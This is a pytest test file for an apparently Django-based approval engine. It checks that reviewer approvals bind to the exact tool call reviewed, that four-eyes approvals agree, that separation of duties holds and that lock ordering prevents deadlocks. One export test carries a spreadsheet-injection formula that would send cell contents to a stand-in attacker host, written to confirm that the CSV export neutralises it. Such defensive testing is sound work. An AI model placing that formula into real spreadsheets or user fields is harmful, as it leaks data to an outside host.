"""Decision integrity: an approval covers exactly the call the reviewer saw, N approvals agree on
one answer, a deadline's default answer is an answer like any other, and whoever started a run
may be kept from approving it. Each through the surface a user touches: the API, the pages."""

from __future__ import annotations

import json
import threading
import time
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection, transaction
from django.test import Client
from django.utils import timezone
from pydantic import BaseModel, Field

from actions import engine
from actions.core import ActionContext, ActionInterrupt, ApprovalPolicy, action
from actions.engine.driving import StepResult, call_binding
from actions.engine.errors import retry_on_conflict
from actions.engine.queue import answers_of
from actions.engine.store import lock_run
from actions.models import ApiToken, Interrupt, Policy, Run, RunEvent, Team

# Runs with steps in workers and inline, on SQLite and on PostgreSQL (tests/conftest.py).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("steps", "database")]


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}", "Prefer": "wait=5"}


def post(client: Client, path: str, body: Any, key: str) -> Any:
    return client.post(path, json.dumps(body), content_type="application/json", headers=bearer(key))


def turn(*calls: tuple[str, str, dict[str, Any]], content: str = "") -> dict[str, Any]:
    return {
        "content": content,
        "tool_calls": [{"id": cid, "name": name, "arguments": args} for cid, name, args in calls],
    }


# 1. An agent's approval is bound to the call it answered


def test_an_approval_is_not_replayed_for_a_later_call_that_reuses_its_tool_call_id(
    client: Client, token_key: str
) -> None:
    """Local model servers reuse ids: approving send_invoice(A, 1) must not run a later
    turn's send_invoice(B, 999999) with the same id."""
    model = {
        "scripted": [
            turn(("c1", "send_invoice", {"invoice_id": "A", "amount": 1})),
            turn(("c1", "send_invoice", {"invoice_id": "B", "amount": 999999})),
            {"content": "done"},
        ]
    }
    body = {"messages": [{"role": "user", "content": "bill"}], "tools": ["send_invoice"], "model": model}
    run = post(client, "/api/agents/runs", body, token_key).json()
    assert run["status"] == "interrupted" and run["interrupt"]["data"] == {"invoice_id": "A", "amount": 1}

    after = post(client, run["interrupt"]["resume_url"], {"data": {"approved": True}}, token_key).json()
    assert after["status"] == "interrupted", "the second call is not the one approved: it asks again"
    assert after["interrupt"]["data"] == {"invoice_id": "B", "amount": 999999}
    assert after["interrupt"]["tool_call_id"] == "c1"

    detail = client.get(f"/api/agents/runs/{run['id']}", headers=bearer(token_key)).json()
    results = [m["content"] for m in detail["messages"] if m["role"] == "tool"]
    assert len(results) == 1 and '"invoice_id": "A"' in results[0], "only A was sent"
    calls = [entry["call"] for entry in detail["transcript"]]
    assert [(c["action"], c["turn"], c["position"]) for c in calls] == [
        ("send_invoice", 0, 0),
        ("send_invoice", 1, 0),
    ]
    first, second = Interrupt.objects.filter(run_id=run["id"]).order_by("seq")
    assert first.binding["turn"] == 0 and second.binding["turn"] == 1
    assert first.binding["position"] == second.binding["position"] == 0
    assert first.binding["arguments_sha256"] != second.binding["arguments_sha256"]

    done = post(client, after["interrupt"]["resume_url"], {"data": {"approved": True}}, token_key).json()
    assert (done["status"], done["output"]) == ("completed", "done")


def test_a_turn_that_repeats_a_tool_call_id_fails_the_run_saying_why(client: Client, token_key: str) -> None:
    model = {
        "scripted": [
            turn(
                ("dup", "send_invoice", {"invoice_id": "A", "amount": 1}),
                ("dup", "send_invoice", {"invoice_id": "B", "amount": 2}),
            )
        ]
    }
    body = {"messages": [{"role": "user", "content": "bill"}], "tools": ["send_invoice"], "model": model}
    run = post(client, "/api/agents/runs", body, token_key).json()
    assert run["status"] == "failed"
    assert "repeats or lacks a tool call id ('dup')" in run["error"]
    assert not Interrupt.objects.filter(run_id=run["id"]).exists(), "no call of that turn ran"


def test_a_scripts_pause_is_bound_to_its_position_action_and_arguments(
    client: Client, token_key: str
) -> None:
    source = 'return tools.send_invoice(invoice_id=input["id"], amount=3)'
    run = post(client, "/api/scripts/runs", {"source": source, "input": {"id": "S-1"}}, token_key).json()
    interrupt = Interrupt.objects.get(run_id=run["id"])
    assert interrupt.binding == call_binding("send_invoice", {"invoice_id": "S-1", "amount": 3}, position=0)
    # The stored pause is for another call than the one approved: the answer resumes nothing.
    stored = Run.objects.get(pk=run["id"])
    stored.driver_state["paused"]["input"]["amount"] = 3000
    Run.objects.filter(pk=stored.pk).update(driver_state=stored.driver_state)
    after = post(client, run["interrupt"]["resume_url"], {"data": {"approved": True}}, token_key).json()
    assert after["status"] == "failed" and "diverged" in after["error"], after


def test_a_plain_actions_answer_resumes_only_the_step_that_paused(team: Team, reviewer: User) -> None:
    run = engine.start_run("send_invoice", {"invoice_id": "P-1", "amount": 5}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    assert interrupt.binding == {"action": "send_invoice"}
    engine.resume(interrupt, {"approved": True}, reviewer)
    run.refresh_from_db()
    assert run.status == "completed"
    assert answers_of(run.pk).resumption_for({"action": "send_invoice"}) is not None
    assert answers_of(run.pk).resumption_for({"action": "transfer_funds"}) is None


# 3. A deadline's default answer is validated


class Choice(BaseModel):
    scope: str = Field(pattern="^(some|all)$")


def test_a_default_answer_that_does_not_fit_the_answer_model_is_refused_where_declared() -> None:
    with pytest.raises(TypeError, match="default_answer of bad_default does not fit its answer model: scope"):
        action(
            input=Choice,
            answer=Choice,
            name="bad_default",
            policy=ApprovalPolicy(deadline=timedelta(hours=1), default_answer={"scope": "everything"}),
        )(lambda ctx: None)


def choose(ctx: ActionContext) -> dict[str, Any]:
    if ctx.resumption is None:
        raise ActionInterrupt("Which scope?", {})
    return {"scope": ctx.resumption.data["scope"]}


action(input=Choice, answer=Choice, name="scoped_choice")(choose)


def test_the_admin_refuses_a_team_default_answer_that_does_not_fit(team: Team, admin_client: Client) -> None:
    form = {
        "team": team.pk,
        "action": "scoped_choice",
        "deadline_minutes": 5,
        "default_answer": '{"scope": "everything"}',
        "approvals_required": 1,
        "requester_may_approve": "unknown",
    }
    page = admin_client.post("/admin/actions/policy/add/", form)
    assert page.status_code == 200 and "does not fit scoped_choice" in page.content.decode()
    assert not Policy.objects.exists()
    page = admin_client.post("/admin/actions/policy/add/", {**form, "default_answer": '{"scope": "all"}'})
    assert page.status_code == 302 and Policy.objects.get().default_answer == {"scope": "all"}


def test_an_invalid_default_answer_at_the_deadline_expires_the_interrupt_with_a_clear_error(
    team: Team,
) -> None:
    # Stored before validation existed, or the answer model changed since: checked again when it fires.
    Policy.objects.create(
        team=team, action="scoped_choice", deadline_minutes=5, default_answer={"scope": "x"}
    )
    run = engine.start_run("scoped_choice", {"scope": "some"}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    assert engine.apply_policies(now=timezone.now() + timedelta(minutes=6)) == 1
    interrupt.refresh_from_db()
    run.refresh_from_db()
    assert interrupt.status == "expired" and interrupt.answer is None
    assert run.status == "failed"
    assert "default answer is invalid" in run.error and "scope" in run.error


# 4. Four eyes see the same thing


FOUR_EYES_DELETE = "four_eyes_delete"


class Deletion(BaseModel):
    scope: str = Field(pattern="^(personal_data|everything)$")
    notify_customer: bool = True


def delete(ctx: ActionContext) -> dict[str, Any]:
    if ctx.resumption is None:
        raise ActionInterrupt("Delete customer data?", {"customer": "cus_1"})
    return {"deleted": ctx.resumption.data}


action(input=Choice, answer=Deletion, name=FOUR_EYES_DELETE, policy=ApprovalPolicy(approvals=2))(delete)


def approve_on_page(client: Client, interrupt: Interrupt, **answer: str) -> str:
    fields = {f"answer-{key}": value for key, value in answer.items()}
    return str(client.post(f"/interrupts/{interrupt.pk}/approve/", fields, follow=True).content.decode())


def test_n_approvals_must_agree_on_one_answer_and_a_different_one_starts_the_count_again(
    team: Team, reviewer: User, second_reviewer: User
) -> None:
    third = User.objects.create_user("reviewer3", password="pw-reviewer3")
    team.members.add(third)
    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    one, two, three = Client(), Client(), Client()
    one.force_login(reviewer)
    two.force_login(second_reviewer)
    three.force_login(third)

    approve_on_page(one, interrupt, scope="personal_data", notify_customer="on")
    page = two.get(f"/interrupts/{interrupt.pk}/").content.decode()
    assert "The answer approved so far" in page and "personal_data" in page
    assert "A different answer starts the count again" in page

    page = approve_on_page(two, interrupt, scope="everything")  # notify_customer unticked
    assert "differs from the one reviewer1 approved, so the count starts again" in page
    run.refresh_from_db()
    assert run.status == "interrupted", "no answer has two approvals yet"

    approve_on_page(three, interrupt, scope="everything")
    run.refresh_from_db()
    assert run.status == "completed"
    assert run.output == {"deleted": {"scope": "everything", "notify_customer": False}}
    interrupt.refresh_from_db()
    assert interrupt.answer == {"scope": "everything", "notify_customer": False}
    transcript = [
        (a.user.username, (a.answer or {})["scope"], a.superseded_at is not None)
        for a in interrupt.approvals.order_by("at")
    ]
    assert transcript == [
        ("reviewer1", "personal_data", True),
        ("reviewer2", "everything", False),
        ("reviewer3", "everything", False),
    ]
    restarted = RunEvent.objects.get(run=run, kind="approved", detail__restarted=True)
    assert restarted.detail["superseded"] == ["reviewer1"] and restarted.actor_name == "reviewer2"
    # The run's page shows what each person approved, not the final answer three times.
    timeline = one.get(f"/runs/{run.pk}/").content.decode()
    assert timeline.count("Approved by") == 3 and "(1 of 2)" in timeline and "(2 of 2)" in timeline
    assert "personal_data" in timeline and "the count started again" in timeline


def test_the_inbox_and_the_api_count_only_the_approvals_that_agree(
    team: Team, reviewer: User, second_reviewer: User, client: Client, token_key: str
) -> None:
    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    engine.resume(interrupt, {"scope": "personal_data"}, reviewer)
    engine.resume(interrupt, {"scope": "everything"}, second_reviewer)
    page = Client()
    page.force_login(reviewer)
    assert "1 of 2 approvals" in page.get("/").content.decode()
    detail = client.get(f"/api/runs/{run.pk}", headers=bearer(token_key)).json()
    approvals = detail["transcript"][0]["approvals"]
    assert [(a["by"], a["answer"]["scope"], a["counted"]) for a in approvals] == [
        ("reviewer1", "personal_data", False),
        ("reviewer2", "everything", True),
    ]


def test_a_superseded_approver_may_approve_the_new_answer(
    team: Team, reviewer: User, second_reviewer: User
) -> None:
    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    engine.resume(interrupt, {"scope": "personal_data"}, reviewer)
    engine.resume(interrupt, {"scope": "everything", "notify_customer": False}, second_reviewer)
    engine.resume(interrupt, {"scope": "everything", "notify_customer": False}, reviewer)
    run.refresh_from_db()
    assert run.status == "completed" and run.output == {
        "deleted": {"scope": "everything", "notify_customer": False}
    }


# 7. Separation of duties


def test_whoever_started_a_run_may_not_approve_it_when_the_policy_says_so(
    team: Team, reviewer: User, second_reviewer: User, client: Client
) -> None:
    run = engine.start_run("transfer_funds", {"amount": 50, "to": "DE12"}, team, reviewer)
    (interrupt,) = engine.pending_interrupts(run.pk)
    client.force_login(reviewer)
    page = client.get(f"/interrupts/{interrupt.pk}/").content.decode()
    assert "Separation of duties" in page and 'class="approve-form"' not in page
    refused = client.post(f"/interrupts/{interrupt.pk}/approve/", {})
    assert refused.status_code == 403 and "Separation of duties" in refused.content.decode()
    interrupt.refresh_from_db()
    assert interrupt.status == "pending"

    engine.resume(interrupt, {"approved": True}, second_reviewer)
    run.refresh_from_db()
    assert run.status == "completed"


def test_no_api_token_may_approve_under_separation_of_duties(
    client: Client, team: Team, token_key: str, reviewer: User
) -> None:
    """A token acts for the whole team: it cannot show that someone other than the requester
    approves, whoever started the run."""
    body = {"action": "transfer_funds", "input": {"amount": 5, "to": "X"}}
    interrupt = post(client, "/api/runs", body, token_key).json()["interrupt"]
    refused = post(client, interrupt["resume_url"], {"data": {"approved": True}}, token_key)
    assert refused.status_code == 403 and "Separation of duties" in refused.json()["detail"]
    other_key = ApiToken.issue(team, "approver")[1]
    refused = post(client, interrupt["resume_url"], {"data": {"approved": True}}, other_key)
    assert refused.status_code == 403 and "an API token is not a person" in refused.json()["detail"]
    # A person's run, and the team's CI token approving it: refused too.
    run = engine.start_run("transfer_funds", {"amount": 5, "to": "X"}, team, reviewer)
    (own,) = engine.pending_interrupts(run.pk)
    refused = post(client, f"/api/interrupts/{own.pk}/resume", {"data": {"approved": True}}, token_key)
    assert refused.status_code == 403
    # The requester may still withdraw.
    rejected = post(client, interrupt["reject_url"], {"error": "asked by mistake"}, token_key)
    assert rejected.json()["status"] == "rejected"


def test_a_team_may_turn_separation_of_duties_on_or_off_for_an_action(team: Team, reviewer: User) -> None:
    Policy.objects.create(team=team, action="send_invoice", requester_may_approve=False)
    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, reviewer)
    (interrupt,) = engine.pending_interrupts(run.pk)
    with pytest.raises(engine.NotAllowed, match="Separation of duties"):
        engine.resume(interrupt, {"approved": True}, reviewer)
    Policy.objects.filter(team=team).update(requester_may_approve=True)
    run = engine.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
    (interrupt,) = engine.pending_interrupts(run.pk)
    with pytest.raises(engine.NotAllowed):
        engine.resume(interrupt, {"approved": True}, reviewer)  # the action's own policy still holds
    Policy.objects.create(team=team, action="transfer_funds", requester_may_approve=True)
    run = engine.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
    (interrupt,) = engine.pending_interrupts(run.pk)
    engine.resume(interrupt, {"approved": True}, reviewer)
    assert Run.objects.get(pk=run.pk).status == "completed"


# 6. Smaller defects


def test_rejecting_what_one_may_not_decide_is_403_not_500(team: Team, reviewer: User, client: Client) -> None:
    Policy.objects.create(team=team, action="send_invoice", assignees="reviewer2")
    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    client.force_login(reviewer)
    refused = client.post(f"/interrupts/{interrupt.pk}/reject/", {"reject-reason": "no"})
    assert refused.status_code == 403 and "Only reviewer2 may decide this." in refused.content.decode()


def test_a_step_that_reports_a_pause_without_one_fails_the_run_instead_of_hanging(team: Team) -> None:
    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
    Run.objects.filter(pk=run.pk).update(status="running", attempt=7)
    run.refresh_from_db()
    engine.record(run, StepResult(Run.Status.INTERRUPTED, pauses=[]))
    run.refresh_from_db()
    assert run.status == "failed" and "paused without saying on what" in run.error


class Crash(BaseModel):
    n: int = 0


@action(input=Crash, name="leaky_crash")
def leaky_crash(ctx: ActionContext) -> None:
    raise RuntimeError("connect to postgresql://app:hunter2@db.internal/prod failed")


def test_an_unexpected_exception_is_kept_from_api_callers_and_logged_with_an_id(
    client: Client, token_key: str, admin_client: Client
) -> None:
    run = post(client, "/api/runs", {"action": "leaky_crash", "input": {}}, token_key).json()
    assert run["status"] == "failed" and "hunter2" not in json.dumps(run)
    assert "internal error (error id " in run["error"]
    error_id = run["error"].split("error id ")[1].split(";")[0]
    event = RunEvent.objects.get(run_id=run["id"], kind="error")
    assert event.detail == {"error_id": error_id, "exception": "RuntimeError: " + leaky_crash_text()}
    admin_page = admin_client.get(f"/admin/actions/runevent/{event.pk}/change/").content.decode()
    assert "hunter2" in admin_page and error_id in admin_page


def leaky_crash_text() -> str:
    return "connect to postgresql://app:hunter2@db.internal/prod failed"


def test_the_history_export_neutralises_cells_a_spreadsheet_would_run(
    team: Team, reviewer: User, auditor: User, client: Client
) -> None:
    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    engine.reject(interrupt, '=HYPERLINK("http://evil.example/?"&A1,"click")', reviewer)
    client.force_login(auditor)
    body = b"".join(client.get("/history/export.csv").streaming_content).decode()  # type: ignore[attr-defined]
    assert "'=HYPERLINK" in body and ",=HYPERLINK" not in body and '"=HYPERLINK' not in body


def test_cancelling_a_run_tells_the_inbox_of_the_team_it_escalated_to(
    team: Team, other_team: Team, reviewer: User, monkeypatch: Any
) -> None:
    from actions.live import push as live

    pushed: list[tuple[list[str], dict[str, Any]]] = []
    monkeypatch.setattr(live, "_anyone_listening", lambda: True)
    monkeypatch.setattr(live, "heard", set)  # a page of every group listens
    monkeypatch.setattr(live, "_send_to", lambda groups, frame: pushed.append((groups, frame)))
    Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
    live._renderer.submit(lambda: None).result()  # what the escalation pushed has gone
    pushed.clear()
    engine.cancel(run, reviewer)
    live._renderer.submit(lambda: None).result()  # rendered and sent in the push thread
    told = [(groups, frame) for groups, frame in pushed if frame["event"] == "decided"]
    assert len(told) == 1
    groups, frame = told[0]
    assert {live.team_group(team.pk), live.team_group(other_team.pk)} <= set(groups)
    assert (frame["interrupt_id"], frame["status"]) == (interrupt.pk, "cancelled")
    assert sorted(frame["before"]) == sorted([team.pk, other_team.pk]) and frame["after"] == []
    # Created (1), escalated (2), cancelled (3) in the first team's stream; escalated (1) and
    # cancelled (2) in the second's.
    assert frame["seq"] == {str(team.pk): 3, str(other_team.pk): 2}


# 5. One lock order: the run, then its interrupt


@pytest.mark.django_db(transaction=True)  # a race between threads, each with its own connection
def test_escalations_racing_decisions_all_land_once_without_a_deadlock(
    team: Team, other_team: Team, reviewer: User, caplog: Any
) -> None:
    """On PostgreSQL (the database fixture's postgresql variant of this test) a decision
    locks the run and then updates the interrupt; an escalation that updated the interrupt and
    then touched the run (its event's foreign key) deadlocked with it. Both take the run first."""
    Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
    runs = [
        engine.start_run("send_invoice", {"invoice_id": f"R-{n}", "amount": 1}, team, None) for n in range(12)
    ]
    interrupts = [engine.pending_interrupts(run.pk)[0] for run in runs]
    errors: list[BaseException] = []
    start = threading.Barrier(3)

    def escalate() -> None:
        try:
            start.wait()
            for _ in range(3):
                engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
        except BaseException as exc:  # noqa: BLE001 - reported by the test
            errors.append(exc)
        finally:
            connection.close()

    def decide(chosen: list[Interrupt]) -> None:
        try:
            start.wait()
            for interrupt in chosen:
                engine.resume(interrupt, {"approved": True}, reviewer)
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)
        finally:
            connection.close()

    threads = [
        threading.Thread(target=escalate),
        threading.Thread(target=decide, args=(interrupts[0::2],)),
        threading.Thread(target=decide, args=(interrupts[1::2],)),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == []
    assert "lost a conflict" not in caplog.text, "one lock order: nothing to retry"
    assert set(Run.objects.filter(pk__in=[r.pk for r in runs]).values_list("status", flat=True)) == {
        "completed"
    }
    for interrupt in interrupts:
        kinds = list(RunEvent.objects.filter(interrupt=interrupt).values_list("kind", flat=True))
        assert kinds.count("approved") == 1 and kinds.count("escalated") <= 1


@pytest.mark.django_db(transaction=True)  # a race between threads, each with its own connection
def test_an_escalation_waits_for_the_run_lock_before_it_touches_the_interrupt(
    team: Team, other_team: Team
) -> None:
    """The lock order, shown directly: while another transaction holds the run (as a decision
    does), an escalation of its interrupt waits without having locked or changed the interrupt."""
    Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
    run = engine.start_run("send_invoice", {"invoice_id": "L-1", "amount": 1}, team, None)
    (interrupt,) = engine.pending_interrupts(run.pk)
    locked, release, errors = threading.Event(), threading.Event(), []

    def hold_the_run() -> None:
        try:
            with transaction.atomic():
                lock_run(run.pk)
                locked.set()
                release.wait(10)
        finally:
            connection.close()

    def escalate() -> None:
        try:
            engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
        except BaseException as exc:  # noqa: BLE001 - reported by the test
            errors.append(exc)
        finally:
            connection.close()

    holder, escalation = threading.Thread(target=hold_the_run), threading.Thread(target=escalate)
    holder.start()
    assert locked.wait(10)
    escalation.start()
    time.sleep(0.5)
    try:
        assert Interrupt.objects.get(pk=interrupt.pk).escalated_at is None
        if connection.vendor == "postgresql":
            with transaction.atomic(), connection.cursor() as cursor:
                # Raises LockNotAvailable if the escalation had locked the interrupt first.
                cursor.execute(
                    "SELECT id FROM actions_interrupt WHERE id = %s FOR UPDATE NOWAIT", [interrupt.pk]
                )
    finally:
        release.set()
        holder.join(10)
        escalation.join(30)
    assert errors == []
    assert Interrupt.objects.get(pk=interrupt.pk).escalated_at is not None


@pytest.mark.django_db(transaction=True)  # a race between threads, each with its own connection
def test_a_deadlock_is_retried_and_never_reported_as_the_database_being_unavailable() -> None:
    """The database rolls the loser of a deadlock back whole; the engine runs it again."""
    from django.db import OperationalError
    from psycopg import errors as pg

    attempts: list[int] = []

    @retry_on_conflict
    def change() -> str:
        attempts.append(1)
        if len(attempts) < 3:
            raise OperationalError("deadlock detected") from pg.DeadlockDetected("deadlock detected")
        return "done"

    assert change() == "done" and len(attempts) == 3

    @retry_on_conflict
    def always() -> None:
        raise OperationalError("could not serialize") from pg.SerializationFailure("could not serialize")

    with pytest.raises(engine.Busy, match="nothing was changed, try again"):
        always()

    @retry_on_conflict
    def gone() -> None:
        raise OperationalError("connection refused")

    with pytest.raises(OperationalError):
        gone()  # not a conflict: "database unavailable" is the truth here
